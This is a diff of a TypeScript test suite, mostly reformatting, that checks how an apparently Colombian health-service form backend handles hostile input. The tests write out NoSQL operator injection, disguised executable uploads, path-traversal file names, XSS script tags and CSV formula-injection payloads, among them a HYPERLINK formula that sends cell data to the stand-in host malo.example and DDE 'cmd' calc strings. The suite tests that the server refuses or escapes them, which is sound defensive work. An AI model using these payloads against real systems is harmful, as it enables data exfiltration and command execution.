@@ -3,7 +3,19 @@ import fs from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { Client, countRows, historiaFields, historiaForm, ROOT, startInProcess, storedFiling, TINY_PDF, validCita, validPqrs, type RunningServer } from './helpers.ts'
+import {
+  Client,
+  countRows,
+  historiaFields,
+  historiaForm,
+  ROOT,
+  startInProcess,
+  storedFiling,
+  TINY_PDF,
+  validCita,
+  validPqrs,
+  type RunningServer,
+} from './helpers.ts'
 
 let server: RunningServer
 let client: Client
@@ -15,7 +27,7 @@ beforeAll(async () => {
 })
 afterAll(async () => {
   // Across the whole suite: never a 5xx.
-  expect(statuses.filter((s) => s >= 500)).toEqual([])
+  expect(statuses.filter(s => s >= 500)).toEqual([])
   await server?.close()
 })
 
@@ -69,7 +81,15 @@ describe('malformed and mistyped JSON', () => {
       const body = await expectRefused(
         await client.postJson(
           '/api/pqrs',
-          validPqrs({ tipoSolicitud: { $gt: 0 }, nombre: ['Ana'], apellido: 12, mensaje: { texto: 'x' }, telefono: true, tipoPersona: 1e21, tipoRespuesta: -1 }),
+          validPqrs({
+            tipoSolicitud: { $gt: 0 },
+            nombre: ['Ana'],
+            apellido: 12,
+            mensaje: { texto: 'x' },
+            telefono: true,
+            tipoPersona: 1e21,
+            tipoRespuesta: -1,
+          }),
         ),
       )
       expect(body.fields).toEqual({
@@ -105,7 +125,11 @@ describe('malformed and mistyped JSON', () => {
       await expectRefused(await client.postJson('/api/historia-clinica', historiaFields()), [400, 415])
       // A compressed body is not inflated by the server (no zip bombs): refused.
       await expectRefused(
-        await fetch(`${server.url}/api/pqrs`, { method: 'POST', headers: client.headers({ 'content-type': 'application/json', 'content-encoding': 'gzip' }), body: new Uint8Array([31, 139, 8, 0]) }),
+        await fetch(`${server.url}/api/pqrs`, {
+          method: 'POST',
+          headers: client.headers({ 'content-type': 'application/json', 'content-encoding': 'gzip' }),
+          body: new Uint8Array([31, 139, 8, 0]),
+        }),
         [400, 415],
       )
     })
@@ -135,8 +159,14 @@ describe('huge bodies', () => {
 describe('uploads', () => {
   it('a non-PDF renamed .pdf (with a PDF content type) is refused and its bytes are not kept', async () => {
     await unchanged(async () => {
-      for (const content of [Buffer.from('MZ\x90\x00 ejecutable', 'latin1'), Buffer.from('<html><script>alert(1)</script></html>'), Buffer.from(' %PDF-1.4 con espacio delante')]) {
-        const body = await expectRefused(await client.postForm('/api/historia-clinica', historiaForm(historiaFields(), { content, name: 'formato.pdf', type: 'application/pdf' })))
+      for (const content of [
+        Buffer.from('MZ\x90\x00 ejecutable', 'latin1'),
+        Buffer.from('<html><script>alert(1)</script></html>'),
+        Buffer.from(' %PDF-1.4 con espacio delante'),
+      ]) {
+        const body = await expectRefused(
+          await client.postForm('/api/historia-clinica', historiaForm(historiaFields(), { content, name: 'formato.pdf', type: 'application/pdf' })),
+        )
         expect(body.fields).toEqual({ pdf: 'El archivo debe ser un PDF.' })
       }
     })
@@ -172,13 +202,13 @@ describe('uploads', () => {
       ids.push(((await res.json()) as { id: string }).id)
     }
     expect(fs.existsSync(outside)).toBe(false)
-    const rows = await Promise.all(ids.map(async (id) => (await storedFiling(server.dataDir, id))!.adjuntos[0]!))
+    const rows = await Promise.all(ids.map(async id => (await storedFiling(server.dataDir, id))!.adjuntos[0]!))
     for (const r of rows) {
       expect(r.archivo).toMatch(/^[0-9a-f-]{36}\.pdf$/)
       expect(r.nombreOriginal).not.toMatch(/[\\/\u0000-\u001f]/)
       expect(fs.existsSync(path.join(server.dataDir, 'adjuntos', r.archivo))).toBe(true)
     }
-    expect(rows.map((r) => r.nombreOriginal).slice(0, 3)).toEqual([path.basename(outside), 'evil.pdf', 'passwd'])
+    expect(rows.map(r => r.nombreOriginal).slice(0, 3)).toEqual([path.basename(outside), 'evil.pdf', 'passwd'])
   })
 })
 
@@ -187,7 +217,7 @@ describe('script payloads', () => {
     const payloads = {
       nombre: '<script>alert("xss")</script>',
       apellido: '=HYPERLINK("http://malo.example/?d="&A1,"clic")',
-      direccion: '+57 cmd|\' /C calc\'!A0',
+      direccion: "+57 cmd|' /C calc'!A0",
       mensaje: '@SUM(1+1)*cmd|\' /C calc\'!A0\n"comillas" y, comas',
     }
     const res = await client.postJson('/api/pqrs', validPqrs({ ...payloads, numeroIdentificacion: '5550001' }))
@@ -200,13 +230,21 @@ describe('script payloads', () => {
     statuses.push(minus.status)
     expect(minus.status).toBe(200)
 
-    const csv = execFileSync(process.execPath, ['--import', 'tsx', 'src/server/export.ts', 'pqrs'], { cwd: ROOT, env: { ...process.env, DATA_DIR: server.dataDir }, encoding: 'utf8' })
-    const line = csv.split('\r\n').find((l) => l.startsWith(`"${id}"`))!
+    const csv = execFileSync(process.execPath, ['--import', 'tsx', 'src/server/export.ts', 'pqrs'], {
+      cwd: ROOT,
+      env: { ...process.env, DATA_DIR: server.dataDir },
+      encoding: 'utf8',
+    })
+    const line = csv.split('\r\n').find(l => l.startsWith(`"${id}"`))!
     expect(line).toContain('"<script>alert(""xss"")</script>"')
     expect(line).toContain(`"'=HYPERLINK(""http://malo.example/?d=""&A1,""clic"")"`)
     expect(line).toContain(`"'+57 cmd|' /C calc'!A0"`)
     expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0\n""comillas"" y, comas"`)
-    const citas = execFileSync(process.execPath, ['--import', 'tsx', 'src/server/export.ts', 'citas'], { cwd: ROOT, env: { ...process.env, DATA_DIR: server.dataDir }, encoding: 'utf8' })
+    const citas = execFileSync(process.execPath, ['--import', 'tsx', 'src/server/export.ts', 'citas'], {
+      cwd: ROOT,
+      env: { ...process.env, DATA_DIR: server.dataDir },
+      encoding: 'utf8',
+    })
     expect(citas).toContain(`"'-2+3"`)
     expect(citas).toContain(`"'@EPS"`)
   })
